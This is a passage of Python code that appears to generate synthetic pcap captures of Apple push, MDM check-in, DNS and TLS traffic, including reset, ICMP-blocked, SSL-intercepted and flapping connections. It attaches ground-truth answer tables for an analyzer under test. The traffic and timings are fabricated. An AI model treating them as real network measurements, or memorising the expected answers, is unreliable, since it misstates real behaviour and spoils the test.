    # -- reset: RST/ACK 2 ms after the SYN, TTL 64 (a firewall, not Apple's ~52) ---------------------
    rj = case(TcpFlow(cap, DEV4, 50003, "17.57.146.31", 5223, iphone,
                      "courier SYN to 17.57.146.31:5223 answered by RST/ACK after 2.0 ms (REJ)", s_ttl=64),
              "reset")
    rj.syn(5.1)
    rj.s.nxt = 0
    rj.seg(5.102, False, "RA", seq=0)

    # -- icmp_unreachable: IPv4 3/13 on VLAN 30, ICMPv6 1/1, UDP (QUIC) 3/3 ------------------
    ic = case(TcpFlow(cap, MAC_VLAN30, 50005, "17.57.146.32", 5223, mac30,
                      "MacBook on VLAN 30: courier SYN to 17.57.146.32:5223 answered by ICMP 3/13 "
                      "(administratively prohibited) from the firewall 10.30.8.1 quoting the SYN"),
              "icmp_unreachable")
    icmp_error(cap, ic, ic.syn(5.6), 0.000412, ROUTER_VLAN30, 3, 13)
    ic6 = case(TcpFlow(cap, DEV6, 50007, "2620:149:a44::31", 5223, iphone,
                       "IPv6 courier SYN to [2620:149:a44::31]:5223 answered by ICMPv6 1/1 (administratively "
                       "prohibited) from fd00:20::1 quoting the SYN"),
               "icmp_unreachable")
    icmp_error(cap, ic6, ic6.syn(6.2), 0.000377, ROUTER6, 1, 1)
    qu = case(UdpFlow(cap, DEV4, 54021, PRIVATE_RELAY, 443, iphone,
                      "QUIC v1 Initial (SNI mask.icloud.com, ALPN h3) to 17.248.172.6:443 answered by ICMP 3/3 "
                      "(port unreachable) from the server address, quoting the first 548 bytes"),
              "icmp_unreachable")
    icmp_error(cap, qu, qu.send(6.8, True, quic_initial(rng, "mask.icloud.com", ["h3"])), 0.0183,
               PRIVATE_RELAY, 3, 3)
    tls_facts(qu, sni="mask.icloud.com")

    # -- reset_after_handshake: ClientHello, then a RST from the server side, no server payload ---
    rah = case(TcpFlow(cap, IPAD4, 50101, ENROLL, 443, ipad,
                       "TLS to deviceenrollment.apple.com (17.32.194.4:443): handshake, ClientHello, then a "
                       "RST/ACK from the server side 2.1 ms later, no server payload (RSTR); the RST has TTL 64 "
                       "where the server's SYN/ACK had 61: injected by a box on the path", s_ttl=61),
               "reset_after_handshake")
    t = rah.handshake(7.4, 0.0214) + 0.0008
    tls_hello(rah, t, "deviceenrollment.apple.com", ["h2", "http/1.1"], True)
    tls_facts(rah, sni="deviceenrollment.apple.com")
    rah.seg(t + 0.0021, False, "RA", ttl=64)

    # -- tls_alert: the provider API refuses the ClientHello ---------------------------------
    al = case(TcpFlow(cap, MDM, 41890, APNS_API, 443, mdm_srv,
                      "MDM server -> api.push.apple.com:443: ClientHello (SNI api.push.apple.com, ALPN h2), "
                      "server ACK, fatal handshake_failure alert (15 03 03 00 02 02 28), FIN; SF"),
              "tls_alert")
    r = 0.0187
    t = al.handshake(8.3, r) + 0.0009
    tls_hello(al, t, "api.push.apple.com", ["h2"], False)
    al.ack(t + r * 0.6, False)
    al.send(t + r, False, ALERT_HANDSHAKE_FAILURE)
    tls_facts(al, sni="api.push.apple.com", server_alert="fatal/handshake_failure")
    al.seg(t + r + 0.00002, False, "FA")
    al.ack(t + r + 0.0003, True)
    tcp_close(al, t + r + 0.0008, r)

    # -- tls_intercepted (issuer): courier on 5223 behind SSL inspection ---------------------------
    ii = case(TcpFlow(cap, DEV4, 50011, "17.57.146.33", 5223, iphone,
                      "courier 17.57.146.33:5223 behind SSL inspection: TLS 1.2 ServerHello (echoes ALPN "
                      "apns-security-v3) + a leaf issued by CN=Contoso SSL Inspection CA,O=Contoso; the iPhone "
                      "sends fatal unknown_ca (15 03 03 00 02 02 30) 0.118 s after the server flight, then FIN"),
              "tls_intercepted")
    r = 0.0031
    t = ii.handshake(9.1, r) + 0.0009
    tls_hello(ii, t, "courier.push.apple.com", ["apns-security-v3"], True)
    ii.ack(t + r * 0.6, False)
    leaf = make_cert_dn(rng, "CN=courier.push.apple.com", CONTOSO_CA, COURIER_CHAIN.sans, rsa_signed=True)
    tf = ii.send(t + r + 0.0042, False, server_flight_tls12_ex(rng, "apns-security-v3", [leaf]))
    tls_facts(ii, sni="courier.push.apple.com", courier=True, tls_version="TLS 1.2",
              server_alpn="apns-security-v3", cert_issuer=CONTOSO_CA, client_alert="fatal/unknown_ca")
    ii.ack(tf + 0.00005, True)
    ii.send(tf + 0.118, True, ALERT_UNKNOWN_CA)
    ii.seg(tf + 0.11802, True, "FA")
    ii.seg(tf + 0.118 + r, False, "FA")
    ii.ack(tf + 0.118 + r + 0.00005, True)

    # -- tls_intercepted (ALPN): courier on 443, Apple issuer, no ALPN echoed, client closes -------
    ia = case(TcpFlow(cap, IPAD4, 50103, "17.57.146.34", 443, ipad,
                      "courier fallback 17.57.146.34:443: TLS 1.2 ServerHello WITHOUT an ALPN extension, leaf "
                      "from Apple Server Authentication CA (the courier's own issuer); the iPad closes with FIN "
                      "0.25 s after the server flight, no alert"),
              "tls_intercepted")
    r = 0.0226
    t = ia.handshake(10.2, r) + 0.0009
    tls_hello(ia, t, "courier.push.apple.com", ["apns-security-v3"], True)
    ia.ack(t + r * 0.55, False)
    tf = ia.send(t + r * 1.05, False, server_flight_tls12_ex(rng, None, COURIER_LEAF.build(rng)))
    tls_facts(ia, sni="courier.push.apple.com", courier=True, tls_version="TLS 1.2", server_alpn=None,
              cert_issuer=COURIER_LEAF.issuer)
    ia.ack(tf + 0.00006, True)
    ia.seg(tf + 0.25, True, "FA")
    ia.seg(tf + 0.25 + r, False, "FA")
    ia.ack(tf + 0.25 + r + 0.00005, True)

    # -- DNS, continued --------------------------------------------------------------------
    dns_case(cap, ipad, IPAD4, 55501, 11.0, "mdmenrollment.apple.com", 1, "servfail", rtt=0.0411)
    dns_case(cap, ipad, IPAD4, 55503, 11.4, "gdmf.apple.com", 1, "refused", rtt=0.0007)
    dns_case(cap, iphone, DEV4, 61307, 11.8, "wpad.example.com", 1, "nxdomain", rtt=0.0016)
    dns_case(cap, ipad, IPAD4, 55505, 12.0, "iprofiles.apple.com", 28, "nodata", rtt=0.0131)

    # -- no_server_data: ClientHello acknowledged, then 15 s of silence ----------------------------
    nd = case(TcpFlow(cap, DEV4, 50015, MDM, 8443, iphone,
                      "TLS to mdm.example.com:8443: ClientHello acknowledged, no server data for 15 s, the "
                      "iPhone closes with FIN, the server FIN/ACKs (SF)", s_ttl=63),
              "no_server_data")
    r = 0.0011
    t = nd.handshake(12.5, r) + 0.0007
    tls_hello(nd, t, "mdm.example.com", ["h2", "http/1.1"], True)
    tls_facts(nd, sni="mdm.example.com")
    nd.ack(t + r, False)
    nd.seg(t + 15.0, True, "FA")
    nd.seg(t + 15.0 + r, False, "FA")
    nd.ack(t + 15.0 + r + 0.0001, True)

    # -- healthy: TLS 1.2 courier, TLS 1.3 courier --------------------------------------------
    ok = case(TcpFlow(cap, DEV4, 50017, COURIER, 5223, iphone,
                      "healthy courier 17.57.146.20:5223: TLS 1.2, server ALPN apns-pack-v1:4096:4096, leaf "
                      "from Apple Server Authentication CA; Connect/ConnectAck, filter; stays open (S1)"))
    r = 0.0214
    t = tls12_open(ok, 13.0, r, "courier.push.apple.com", ["apns-security-v3"], "apns-pack-v1:4096:4096",
                   COURIER_LEAF)
    tls_facts(ok, sni="courier.push.apple.com", courier=True, tls_version="TLS 1.2",
              server_alpn="apns-pack-v1:4096:4096", cert_issuer=COURIER_LEAF.issuer)
    t = exchange(ok, t + 0.0019, r, 1291, 96)
    ok.send(t + 0.0012, True, app(ok, True, 168))
    ok.ack(t + 0.0012 + r, False)

    ok13 = case(TcpFlow(cap, IPAD4, 50105, "17.57.146.35", 5223, ipad,
                        "healthy courier 17.57.146.35:5223 over TLS 1.3 (certificate and server ALPN "
                        "encrypted): connect / ack both ways; stays open (S1)"))
    r = 0.0233
    t = tls13_open(ok13, 14.0, r, "courier.push.apple.com", ["apns-security-v3"], server_len=640)
    tls_facts(ok13, sni="courier.push.apple.com", courier=True, tls_version="TLS 1.3")
    exchange(ok13, t + 0.0017, r, 900, 96)

    # -- healthy HTTP: 40 ms answer; a slow server that answers after 3 s -----------------------
    cp = case(TcpFlow(cap, DEV4, 50019, CAPTIVE, 80, iphone,
                      "captive-portal probe GET http://captive.apple.com/hotspot-detect.html, 200 Success "
                      "40 ms after the request (ttfb 40 ms); FIN both ways", s_ttl=57))
    r = 0.0061
    t = cp.handshake(16.0, r) + 0.0002
    t = http_request(cp, t, "GET", "captive.apple.com", "/hotspot-detect.html",
                     "CaptiveNetworkSupport-481.100.2 wispr")
    cp.ack(t + r, False)
    body = b"<HTML><HEAD><TITLE>Success</TITLE></HEAD><BODY>Success</BODY></HTML>"
    t = http_response(cp, t + 0.040, 200, "OK", "Content-Type: text/html\r\nCache-Control: max-age=0\r\n", body)
    cp.ack(t + 0.00005, True)
    tcp_close(cp, t + 0.0103, r)

    sl = case(TcpFlow(cap, IPAD4, 50107, SUS, 8088, ipad,
                      "slow but fine: GET /index.sucatalog to sus.example.com:8088, acknowledged at once, "
                      "answered 3.0 s after the request (ttfb 3000 ms); FIN both ways", s_ttl=63))
    r = 0.0009
    t = sl.handshake(17.0, r) + 0.0002
    t = http_request(sl, t, "GET", "sus.example.com:8088", "/index.sucatalog", SUS_UA)
    sl.ack(t + r, False)
    t = http_response(sl, t + 3.0, 200, "OK", "Content-Type: text/plain\r\n", SUCATALOG[:420])
    sl.ack(t + 0.00005, True)
    tcp_close(sl, t + 0.0087, r)

    # -- healthy: the rejected courier address answers on 443 with its own TTL (52), so the
    # 5223 RST's TTL 64 shows another box sent it (built last: earlier flows keep their bytes)
    fb = case(TcpFlow(cap, DEV4, 50021, "17.57.146.31", 443, iphone,
                      "after the 5223 RST: TCP to 17.57.146.31:443 answered by the server itself (TTL 52), "
                      "closed with FIN both ways (SF); the reference TTL for the 5223 RST"))
    r = 0.0215
    t = fb.handshake(18.5, r)
    tcp_close(fb, t + 0.5, r)

    attach_block_truth(cap, expect)
    cap.truth_extra = {"dns_failures": sorted(cap.dns_failures, key=lambda d: d["ts"]),
                       "dns_not_failures": cap.dns_ok}
    end = max(f.t_ns for f in cap.frames)
    for d in cap.dns_failures:
        if d["reason"] == "dns_no_answer":
            assert end - round(float(d["ts"]) * 1e9) >= DNS_NO_ANSWER_MARGIN_S * 1e9
    return cap


def courier_truth(cap: Capture, devices: list[str]) -> list[dict]:
    """result.courier per docs/blocked.md, from the courier flows built."""
    rows = []
    for dev in devices:
        conns = sorted((fl for fl in cap.flows if fl.client_ip == dev and getattr(fl, "tls", {}).get("courier")),
                       key=lambda fl: min(f.t_ns for f in fl.frames))
        starts = [min(f.t_ns for f in fl.frames) for fl in conns]
        ends = [max(f.t_ns for f in fl.frames) for fl in conns]
        lifetimes = [(e - s) / 1e9 for s, e in zip(starts, ends)]
        by_net = [any("R" in f.tcp_flags for f in fl.frames if not f.c2s) for fl in conns]
        hours = (max(ends) - min(starts)) / 3600e9
        rph = (len(conns) - 1) / hours if hours > 0 else None
        ka = [life / sum(1 for f in fl.frames if f.c2s and payload_of(f))
              for fl, life in zip(conns, lifetimes) if life > 600]
        short_or_net = sum(1 for life, net in zip(lifetimes, by_net) if net or life < 600)
        srt = sorted(lifetimes)

        def pct(q):
            pos = (len(srt) - 1) * q
            lo = int(pos)
            hi = min(lo + 1, len(srt) - 1)
            return srt[lo] + (srt[hi] - srt[lo]) * (pos - lo)
        ka_sorted = sorted(ka)
        keepalive_s = None
        if ka_sorted:
            m = len(ka_sorted)
            keepalive_s = ka_sorted[m // 2] if m % 2 else (ka_sorted[m // 2 - 1] + ka_sorted[m // 2]) / 2
        rows.append({"device": dev, "connections": len(conns),
                     "client_ports": [fl.client_port for fl in conns],
                     "lifetimes_s": lifetimes, "lifetime_p50_s": pct(0.5), "lifetime_max_s": max(lifetimes),
                     "closed_by_network": sum(by_net),
                     "first_start": f"{min(starts) / 1e9:.9f}", "last_end": f"{max(ends) / 1e9:.9f}",
                     "reconnects_per_hour": rph, "keepalive_s": keepalive_s,
                     "flapping": len(conns) >= 3 and rph is not None and rph > 4 and short_or_net * 2 > len(conns)})
    return rows


def gen_courier_flapping() -> Capture:
    cap = Capture("courier_flapping.pcap", [(LT_ETHERNET, 6)], start_offset_s=21600)
    cap.icmp = []
    rng = cap.rng
    iphone = Link("eth", c_mac=IPHONE_MAC)
    ipad = Link("eth", c_mac=IPAD_MAC)

    # Device B (iPad): one healthy courier for the whole capture, keep-alive every 300 s.
    b = TcpFlow(cap, IPAD4, 50301, "17.57.146.41", 5223, ipad,
                "iPad: one healthy courier to 17.57.146.41:5223 (TLS 1.2, server ALPN apns-pack-v1:4096:4096) "
                "for the whole capture; a keep-alive (72 B client record, 5 B server record) every 300 s; "
                "stays open (S1)")
    r = 0.0219
    t = tls12_open(b, 0.5, r, "courier.push.apple.com", ["apns-security-v3"], "apns-pack-v1:4096:4096",
                   COURIER_LEAF)
    tls_facts(b, sni="courier.push.apple.com", courier=True, tls_version="TLS 1.2",
              server_alpn="apns-pack-v1:4096:4096", cert_issuer=COURIER_LEAF.issuer)
    t = exchange(b, t + 0.0019, r, 1291, 96)
    b.send(t + 0.0012, True, app(b, True, 168))
    b.ack(t + 0.0012 + r, False)
    for k in range(1, 6):
        keepalive(b, 0.5 + 300.0 * k, r)

    # Device A (iPhone): courier connections reset by a middlebox 90 s after their last activity.
    # Kept small: the first connection is a full TLS 1.3 handshake, the reconnects resume the
    # session (server flight: ServerHello + EncryptedExtensions/Finished, no certificate); the
    # client's Finished and the APNs Connect share a segment; the ConnectAck is not acked.
    pushes = {1: 12.4, 4: 27.9, 7: 18.6, 10: 30.2}   # connection -> push this long after connect
    t = 2.0
    idle = 90.0
    for i in range(12):
        fl = TcpFlow(cap, DEV4, 50401 + 2 * i, "17.57.146.40", 5223, iphone,
                     f"iPhone courier #{i + 1} to 17.57.146.40:5223 (TLS 1.3{' resumed' if i else ''}, SNI "
                     f"courier.push.apple.com, ALPN apns-security-v3): connect/ack"
                     f"{', one push + ack' if i in pushes else ''}; reset by the network (RST/ACK, TTL 255) "
                     f"90 s after its last activity (RSTR)", s_ttl=52)
        r = 0.0208 + 0.0004 * (i % 3)
        t = fl.handshake(t, r) + 0.0008
        ch = tls_hello(fl, t, "courier.push.apple.com", ["apns-security-v3"], True)
        t += r + 0.0009
        fl.send(t, False, server_hello_tls13(rng, ch[44:76]) + CCS + tls13_appdata(rng, 560 if i == 0 else 58))
        fl.tls13 = True
        tls_facts(fl, sni="courier.push.apple.com", courier=True, tls_version="TLS 1.3")
        t += 0.0021
        fl.send(t, True, CCS + tls13_appdata(rng, 36) + tls13_appdata(rng, 180))   # Finished + Connect
        t += r + 0.0009
        fl.send(t, False, tls13_appdata(rng, 64))                                   # ConnectAck
        if i in pushes:
            tp = t + pushes[i]
            fl.send(tp, False, tls13_appdata(rng, 209))
            fl.send(tp + 0.0213, True, tls13_appdata(rng, 38))
            t = tp + 0.0213 + r
            fl.ack(t, False)
        fl.s.ttl = 255                                    # the middlebox speaks for the server
        rst = t + idle + 0.0007 * (i % 4)
        fl.seg(rst, False, "RA")
        t = rst + 1.6 + 0.35 * (i % 3)                     # the device reconnects right away
    attach_block_truth(cap, {})                          # none of them is blocked
    cap.truth_extra = {"courier": courier_truth(cap, [DEV4, IPAD4])}
    return cap


# --------------------------------------------------------------------------- sequences_site
# Push -> check-in -> follow-up sequences (docs/sequences.md): ten devices with courier
# connections, the MDM server's provider connection, check-ins (new and kept-alive), blocked
# check-ins, unsolicited ones and follow-up downloads. The truth's `sequences` rows come from
# seq_truth(), which applies the rules of docs/sequences.md to the frames built here.

SEQ_WINDOW_S = 60.0               # SequenceOptions defaults (docs/sequences.md)
SEQ_KEEPALIVE_WINDOW_S = 1.0
SEQ_RECORD_GAP_S = 0.5
SEQ_BURST_GAP_S = 1.0
SEQ_CHECKIN_IDLE_S = 10.0
SEQ_PROVIDER_WINDOW_S = 5.0
SEQ_FOLLOWUPS = ("sus", "file_share", "http_distribution")
SEQ_ROTATION_S = 330.0            # sequences_rot_a.pcap: frames before this (capture-relative) second
MDM6 = "2001:db8:20::10"          # mdm.example.com's AAAA
KA_LEN, KA_ACK_LEN, NACK_LEN = 62, 126, 60   # wire sizes of KeepAlive, KeepAliveAck (= most pushes), notification ack


@dataclass
class SeqDevice:
    key: str
    ip: str
    link: Link
    courier_ip: str
    model: str
    tls12: bool
    running: bool
    ports: list
    dns_ports: list

    def port(self) -> int:
        return self.ports.pop(0)

    def dns_port(self) -> int:
        return self.dns_ports.pop(0)


SEQ_DEVICES = [  # key, address, MAC, VLAN, courier address, model, courier: "tls13" | "tls12" | "running"
    ("A", "10.20.5.37", IPHONE_MAC, 20, "17.57.146.50", "iPhone", "tls13"),
    ("B", "10.20.5.61", IPAD_MAC, 20, "17.57.146.51", "iPad", "tls13"),
    ("C", "10.20.5.52", MACBOOK_MAC, None, "17.57.146.52", "MacBook Pro", "running"),
    ("D", MINI6, MINI_MAC, None, "2620:149:a44::50", "Mac mini (IPv6)", "tls13"),
    ("E", "2001:db8:20:5:18f3:9a2e:c4d1:7b60", "3c:22:fb:91:0e:5d", 20, "2620:149:a44::51", "iPhone (IPv6)", "running"),
    ("F", "10.20.5.70", "f4:0f:24:31:77:c2", 20, "17.57.146.53", "iPad", "running"),
    ("G", "10.20.5.81", "a4:83:e7:02:6b:19", 30, "17.57.146.54", "MacBook Air", "running"),
    ("H", "10.20.5.92", "f0:18:98:44:a0:3e", None, "17.57.146.55", "iMac", "tls13"),
    ("I", "10.20.5.103", "3c:22:fb:0c:52:e8", 20, "17.57.146.56", "iPhone", "running"),
    ("J", "10.20.5.114", "f4:0f:24:6d:19:a1", None, "17.57.146.57", "iPad", "tls12"),
]


def rec(fl: TcpFlow, c2s: bool, wire: int) -> bytes:
    """An application-data record of `wire` bytes on the wire (TLS 1.3: +22, TLS 1.2 GCM: +29)."""
    return app(fl, c2s, wire - (22 if fl.tls13 else 29))


def seq_courier(cap: Capture, d: SeqDevice, t: float, r: float) -> TcpFlow:
    """Courier connection: TLS 1.3 (server flight without the certificate: resumed) or TLS 1.2
    (Apple Server Authentication CA leaf, server ALPN apns-pack-v1:4096:4096), then Connect /
    ConnectAck; or (d.running) already up when the capture starts: no SYN, no handshake.
    Stays open for the whole capture."""
    rng = cap.rng
    if d.running:
        fl = TcpFlow(cap, d.ip, d.port(), d.courier_ip, 5223, d.link,
                     f"{d.key} ({d.model}) courier to {d.courier_ip}:5223 running before the capture (no SYN, "
                     "no handshake: TLS 1.3 records only; apns-courier by address): keep-alives answered within "
                     f"50-150 ms by a {KA_ACK_LEN} B record, pushes (OTH)", mid_stream=True)
        fl.tls13 = True
        fl.c.last_tsval, fl.s.last_tsval = fl.c.ts_base - 7000, fl.s.ts_base - 6900
        return classify(fl, "apns", "address")
    fl = TcpFlow(cap, d.ip, d.port(), d.courier_ip, 5223, d.link,
                 f"{d.key} ({d.model}) courier to {d.courier_ip}:5223 (TLS {'1.2' if d.tls12 else '1.3'}, SNI "
                 "courier.push.apple.com, ALPN apns-security-v3): connect, keep-alives answered within "
                 f"50-150 ms by a {KA_ACK_LEN} B record, pushes; open for the whole capture (S1)")
    if d.tls12:
        t = tls12_open(fl, t, r, "courier.push.apple.com", ["apns-security-v3"], "apns-pack-v1:4096:4096",
                       COURIER_LEAF)
        tls_facts(fl, sni="courier.push.apple.com", courier=True, tls_version="TLS 1.2",
                  server_alpn="apns-pack-v1:4096:4096", cert_issuer=COURIER_LEAF.issuer)
        seq_exchange(fl, t + 0.0019, r, 80, 64, think=0.0)                           # Connect / ConnectAck
    else:
        t = fl.handshake(t, r) + 0.0008
        ch = tls_hello(fl, t, "courier.push.apple.com", ["apns-security-v3"], True)
        t += r + 0.0009
        fl.send(t, False, server_hello_tls13(rng, ch[44:76]) + CCS + tls13_appdata(rng, 60))
        note(fl, tls_version="TLS 1.3")
        fl.tls13 = True
        tls_facts(fl, sni="courier.push.apple.com", courier=True, tls_version="TLS 1.3")
        t += 0.0021
        fl.send(t, True, CCS + tls13_appdata(rng, 36) + tls13_appdata(rng, 80))    # Finished + Connect
        t += r + 0.0009
        fl.send(t, False, tls13_appdata(rng, 64))                                   # ConnectAck
    return classify(fl, "apns", "sni")


def seq_keepalive(fl: TcpFlow, t: float, delay: float, log: list):
    fl.send(t, True, rec(fl, True, KA_LEN))              # KeepAlive (0x0C)
    asked = fl.frames[-1]
    fl.send(t + delay, False, rec(fl, False, KA_ACK_LEN))  # KeepAliveAck (0x0D): the size of a push
    log.append((fl, asked, fl.frames[-1]))


def seq_push(fl: TcpFlow, t: float, r: float, *, wire: int = KA_ACK_LEN, ack: bool = True, split: int = 0,
             then: tuple = ()):
    """A Notification record (split: in two TCP segments, the first `split` bytes 1.5 ms ahead;
    then: more (delay, wire) records before the device answers); ack: the device's notification
    ack record 30 ms after the last one, else only a TCP ACK."""
    data = rec(fl, False, wire)
    if split:
        fl.seg(t, False, "A", data[:split])
        fl.seg(t + 0.0015, False, "PA", data[split:])
        end = t + 0.0015
    else:
        end = fl.send(t, False, data)
    for delay, w in then:
        end = fl.send(t + delay, False, rec(fl, False, w))
    if ack:
        fl.send(end + 0.0301, True, rec(fl, True, NACK_LEN))
    else:
        fl.ack(end + 0.0402, True)


def seq_exchange(fl: TcpFlow, t: float, r: float, c_len: int, s_len: int, think: float = 0.0121,
                 prefix: bytes = b"", ack: bool = True) -> float:
    """A request record (after `prefix`, e.g. the client Finished), the response r + think later,
    the client's ACK (ack=False: the client's next segment acknowledges it); returns the time
    of the response + 50 us."""
    fl.send(t, True, prefix + app(fl, True, c_len))
    fl.send(t + r + think, False, app(fl, False, s_len))
    if ack:
        fl.ack(t + r + think + 0.00005, True)
    return t + r + think + 0.00005


def seq_mdm(cap: Capture, d: SeqDevice, t: float, r: float, what: str, *, close: bool = True) -> TcpFlow:
    """A check-in: TLS 1.3 (resumed: no certificate) to mdm.example.com:8443 (IPv4 or IPv6), the
    client Finished and PUT Idle in one segment, 200 + a command; close_notify + FIN both ways
    unless close is False (kept alive)."""
    rng = cap.rng
    fl = TcpFlow(cap, d.ip, d.port(), MDM6 if ":" in d.ip else MDM, 8443, d.link, what, s_ttl=63)
    t = fl.handshake(t, r) + 0.0007
    ch = tls_hello(fl, t, "mdm.example.com", ["h2", "http/1.1"], True)
    t += r + 0.0009
    fl.send(t, False, server_hello_tls13(rng, ch[44:76]) + CCS + tls13_appdata(rng, 40))
    note(fl, tls_version="TLS 1.3")
    fl.tls13 = True
    t = seq_exchange(fl, t + 0.0031, r, 170, 96, prefix=CCS + tls13_appdata(rng, 36), ack=not close)
    if close:
        tls_close(fl, t + 0.0502, r)
    return classify(fl, "mdm", "port")


def seq_sus(cap: Capture, d: SeqDevice, t: float, r: float) -> TcpFlow:
    rng = cap.rng
    fl = TcpFlow(cap, d.ip, d.port(), SWCDN, 443, d.link,
                 f"follow-up: {d.key} fetches from swcdn.apple.com:443 (TLS 1.3, SNI swcdn.apple.com -> sus); "
                 "one request / response; close", s_ttl=57)
    t = fl.handshake(t, r) + 0.0008
    ch = tls_hello(fl, t, "swcdn.apple.com", ["h2", "http/1.1"], True)
    t += r + 0.0011
    fl.send(t, False, server_hello_tls13(rng, ch[44:76]) + CCS + tls13_appdata(rng, 96))
    note(fl, tls_version="TLS 1.3")
    fl.tls13 = True
    t = seq_exchange(fl, t + 0.0027, r, 120, 240, think=0.0093, prefix=CCS + tls13_appdata(rng, 36), ack=False)
    tls_close(fl, t + 0.0302, r)
    return classify(fl, "sus", "sni")


def seq_sus_http(cap: Capture, d: SeqDevice, t: float, r: float) -> TcpFlow:
    fl = TcpFlow(cap, d.ip, d.port(), SWCDN, 80, d.link,
                 f"follow-up: {d.key} downloads an Apple update over clear-text HTTP: GET "
                 "http://swcdn.apple.com/content/downloads/41/07/042-58722/q2jv3w0gk1/RSR.pkg (Host "
                 "swcdn.apple.com -> sus by name, before the .pkg rule), 200, FIN both ways", s_ttl=57)
    t = fl.handshake(t, r) + 0.0002
    t = http_request(fl, t, "GET", "swcdn.apple.com", "/content/downloads/41/07/042-58722/q2jv3w0gk1/RSR.pkg",
                     SUS_UA)
    body = b"xar!" + rbytes(cap.rng, 40)
    t = http_response(fl, t + r + 0.0031, 200, "OK", "Content-Type: application/octet-stream\r\n", body)
    fl.ack(t + 0.00005, True)
    tcp_close(fl, t + 0.0042, r)
    return classify(fl, "sus", "http-host")


def seq_pkg(cap: Capture, d: SeqDevice, t: float, r: float, lookup: bool = True) -> TcpFlow:
    if lookup:
        dns_lookup(cap, d.link, d.ip, d.dns_port(), t, "dp.example.com", 1, [], [DP], rtt=0.0010, ttl=300)
    fl = TcpFlow(cap, d.ip, d.port(), DP, 80, d.link,
                 f"follow-up: {d.key} downloads a package: GET http://dp.example.com/pkgs/Office-16.94.pkg "
                 "(-> http_distribution), 200, FIN both ways", s_ttl=63)
    t = fl.handshake(t + 0.0201, r) + 0.0002
    t = http_request(fl, t, "GET", "dp.example.com", "/pkgs/Office-16.94.pkg", MUNKI_UA)
    body = b"xar!" + rbytes(cap.rng, 40)
    t = http_response(fl, t + r + 0.0008, 200, "OK", "Content-Type: application/octet-stream\r\n", body)
    fl.ack(t + 0.00005, True)
    tcp_close(fl, t + 0.0042, r)
    return classify(fl, "http_distribution", "http-host")


def seq_smb(cap: Capture, d: SeqDevice, t: float, r: float, *, refused: bool, lookup: bool = True) -> TcpFlow:
    if lookup:
        dns_lookup(cap, d.link, d.ip, d.dns_port(), t, "fs.example.com", 1, [], [FS], rtt=0.0010, ttl=300)
    fl = TcpFlow(cap, d.ip, d.port(), FS, 445, d.link,
                 f"follow-up: {d.key} to the SMB share fs.example.com:445 - " +
                 ("SYN answered by RST/ACK 0.4 ms later (REJ, blocked: reset)" if refused else
                  "SMB2 NEGOTIATE request / response, FIN both ways"), s_ttl=64 if refused else 63)
    t += 0.0204
    if refused:
        fl.syn(t)
        fl.seg(t + 0.0004, False, "RA")
    else:
        t = fl.handshake(t, r) + 0.0001
        t = smb_negotiate(fl, t, r)
        fl.ack(t + 0.0001, True)
        tcp_close(fl, t + 0.0051, r)
    return classify(fl, "file_share", "port")


def gen_sequences_site() -> Capture:
    cap = Capture("sequences_site.pcap", [(LT_ETHERNET, 6)], start_offset_s=28800)
    cap.dns_names, cap.icmp, cap.exact_ts = [], [], True
    rng = cap.rng
    devs = {}
    for i, (key, ip, m, vlan, cour_ip, model, kind) in enumerate(SEQ_DEVICES):
        link = Link("eth", c_mac=m, vlans=((0x8100, vlan, 0),) if vlan else ())
        devs[key] = SeqDevice(key, ip, link, cour_ip, model, kind == "tls12", kind == "running",
                              list(range(49301 + 40 * i, 49341 + 40 * i, 2)),
                              list(range(61001 + 20 * i, 61021 + 20 * i, 2)))
    A, B, C, D, E, F, G, H, I = (devs[k] for k in "ABCDEFGHI")
    mdm_srv = Link("eth", c_mac=MDM_MAC)
    kas, cour = [], {}

    # -- couriers (A's after a DNS lookup of a numbered courier name; E F G I already running) -----
    dns_lookup(cap, A.link, A.ip, A.dns_port(), 0.95, "23-courier.push.apple.com", 1,
               ["americas-courier-4.push-apple.com.akadns.net"], [A.courier_ip], rtt=0.0143)
    for i, d in enumerate(devs.values()):
        cour[d.key] = seq_courier(cap, d, 1.0 + 0.7 * i + 0.0113 * i, 0.0201 + 0.0007 * i)
        if d.running:    # their first frames: a keep-alive early on
            seq_keepalive(cour[d.key], 10.31 + 1.3 * i, 0.05 + 0.01 * i, kas)

    # -- MDM server -> APNs provider API (HTTP/2 over TLS 1.3), one request per MDM push ---------
    dns_lookup(cap, mdm_srv, MDM, 53101, 1.9, "api.push.apple.com", 1, ["api-vs.push-apple.com.akadns.net"],
               [APNS_API], rtt=0.0009)
    prov = TcpFlow(cap, MDM, 41902, APNS_API, 443, mdm_srv,
                   "APNs provider API from the MDM server: TLS 1.3 to api.push.apple.com:443, ALPN h2; after "
                   "the handshake (ClientHello, Finished) one client record per POST /3/device/<token> "
                   "(the first also carries the HTTP/2 preface and SETTINGS), each answered 23.6 ms later; "
                   "open for the whole capture (S1)")
    tls13_open(prov, 1.9121, 0.0187, "api.push.apple.com", ["h2"], server_len=120)
    classify(prov, "apns", "sni")

    def provider_request(*times: float, size: int = 66):
        """POST(s) at `times` (one record each), each answered 23.6 ms later (HEADERS :status 200)."""
        for t in times:
            prov.send(t, True, tls13_appdata(rng, size))
        for t in times:
            prov.send(t + 0.0236, False, tls13_appdata(rng, 30))

    r_m = 0.0011   # LAN round trip to the MDM server and the file servers

    # -- H: unsolicited check-in at 30 s, connection kept alive -----------------------------------
    dns_lookup(cap, H.link, H.ip, H.dns_port(), 29.98, "mdm.example.com", 1, [], [MDM], rtt=0.0011, ttl=300)
    h_mdm = seq_mdm(cap, H, 30.0, r_m, "H: MDM connection opened with no push before it (unsolicited check-in, "
                    "TLS 1.3 to mdm.example.com:8443, two request/response exchanges), then kept alive: 170 s "
                    "later, 0.9 s after a push, a new request burst on it (a check-in on a kept-alive "
                    "connection), then close_notify + FIN both ways (SF)", close=False)

    # -- A: push -> check-in; a second push 20 s later; a second connection inside the session -----
    provider_request(59.85, size=110)
    seq_push(cour["A"], 60.0, 0.0201)
    a_mdm = seq_mdm(cap, A, 60.8, r_m, "A: check-in 0.8 s after its first push (new TLS 1.3 connection to "
                    "mdm.example.com:8443), kept open; 25 s later, 6 s after A's second push, a new request on it "
                    "(>= 10 s of device silence: a check-in event) inside the 60 s session of the first "
                    "check-in, so the second push cannot take it (no_checkin); then close (SF)", close=False)
    provider_request(79.80)
    seq_push(cour["A"], 80.0, 0.0201, ack=False)
    t = seq_exchange(a_mdm, 86.0, r_m, 150, 72, ack=False)
    tls_close(a_mdm, t + 0.0502, r_m)

    # -- B and C: two pushes 80 ms apart from one bulk send (requests 10 ms apart) -----------------
